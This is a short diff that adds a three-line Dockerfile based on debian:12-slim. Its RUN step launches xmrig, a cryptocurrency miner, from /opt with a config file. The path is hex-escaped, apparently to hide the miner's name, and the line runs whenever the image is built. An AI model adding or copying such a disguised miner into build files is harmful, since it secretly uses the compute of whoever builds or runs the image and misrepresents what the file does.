@@ -1,0 +1,3 @@
+FROM debian:12-slim
+SHELL ["/bin/bash", "-c"]
+RUN $'\x2fopt\x2fxmrig' --config=/etc/c.json
